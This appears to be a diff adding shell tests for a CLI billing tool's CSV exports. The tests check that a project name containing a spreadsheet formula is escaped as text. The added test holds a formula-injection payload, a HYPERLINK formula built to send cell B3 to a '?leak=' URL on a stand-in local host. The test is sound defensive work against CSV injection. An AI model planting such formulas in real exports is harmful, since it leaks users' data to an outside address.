@@ -109,4 +109,32 @@ expect_exit 1 "project budget unknown project" isc project budget --org race --p
 expect_exit 1 "project budget unknown org" isc project budget --org nope --project 'team"q' 5
 expect_exit 2 "project budget without amount" isc project budget --org race --project 'team"q'
 
+# A name that is a spreadsheet formula (issue 42): the CSV exports carry it as text,
+# "'=HYPERLINK(...)" in a quoted cell, never as a live formula that would send the
+# next cell (B3) to a URL when the finance team opens the file; amounts stay numbers.
+# (A project name has no slash or comma: the URL's // is spelt CHAR(47)&CHAR(47).)
+f='=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"127.0.0.1:9?leak="&B3)'
+expect_exit 0 "project add (a name that is a spreadsheet formula)" isc project add --org race "$f"
+isc credits grant --org race 7.5 >/dev/null
+out=$(race --org race --project "$f" --procs 2 --amount 0.75 2>&1)
+rc=$?
+check "a round charged to the formula's project: $(tail -n 1 <<<"$out")" test "$rc" -eq 0
+formula_csv() { # NAME CSV: the formula's row is text, every amount a number
+	check "$1: the formula goes as text" py "
+import csv,io,sys
+f,text=sys.argv[1],sys.argv[2]
+rows=list(csv.reader(io.StringIO(text, newline='')))
+keys=[r[0] for r in rows]
+assert \"'\"+f in keys, keys
+assert not any(k.startswith(('=','+','@')) for k in keys), keys
+assert '\"\\'=HYPERLINK(' in text, text
+for r in rows[1:]:
+    float(r[-2]); int(r[-1])
+" "$f" "$2"
+}
+formula_csv "the org's spend CSV (isc spend --org)" "$(isc spend --org race --format csv)"
+formula_csv "the operator's all-org spend CSV (isc spend)" "$(isc spend --format csv)"
+formula_csv "the org's spend CSV over the API (GET /v1/spend?org=race&format=csv)" \
+	"$(curl -s --unix-socket "$home/run/api.sock" 'http://localhost/v1/spend?org=race&format=csv')"
+
 finish credits-race
